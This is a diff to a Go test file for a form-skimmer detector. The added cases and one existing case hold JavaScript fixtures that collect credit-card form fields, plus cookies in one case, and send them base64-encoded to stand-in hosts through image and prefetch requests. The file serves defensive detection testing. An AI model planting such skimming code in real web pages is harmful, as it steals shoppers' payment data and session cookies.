@@ -10,6 +10,17 @@ import (
 
 func TestFormSkimmer(t *testing.T) {
 	rt.Check(t, FormSkimmer{}, []rt.Case{
+		// a form hook hands the form to its serializer on submit; the
+		// serializer picks the card inputs and beacons them
+		{"serializer_on_handed_submit", map[string]string{
+			"serialize.mjs": `const SEL = "input[autocomplete^=cc-],input[name*=card]"; export function serialize(form, final) { const got = {};
+  form.querySelectorAll(SEL).forEach((el) => { got[el.name] = el.value }); if (final) new Image().src = "https://px.example.invalid/p.gif?d=" + btoa(JSON.stringify(got)) }`,
+			"index.mjs": `import { serialize } from "./serialize.mjs"; export function useAutosave(form) { form.addEventListener("submit", () => serialize(form, true)) }`}, finding.SeverityCritical},
+		// the same serializer whose loader listens for no submit
+		{"serializer_not_handed_submit", map[string]string{
+			"serialize.mjs": `const SEL = "input[autocomplete^=cc-],input[name*=card]"; export function serialize(form, final) { const got = {};
+  form.querySelectorAll(SEL).forEach((el) => { got[el.name] = el.value }); if (final) new Image().src = "https://px.example.invalid/p.gif?d=" + btoa(JSON.stringify(got)) }`,
+			"index.mjs": `import { serialize } from "./serialize.mjs"; export const snapshot = (form) => serialize(form, false)`}, finding.SeverityNone},
 		{"skimmer", map[string]string{"index.js": `for (var i = 0; i < document.forms.length; i++) document.forms[i].addEventListener("submit", function () {
   var data = document.forms[i].querySelector("[name=card_number]").value;
   var l = document.createElement("link"); l.rel = "prefetch"; l.href = "https://metrics.example.invalid/c?d=" + btoa(data + document.cookie); document.head.appendChild(l) })`}, finding.SeverityCritical},
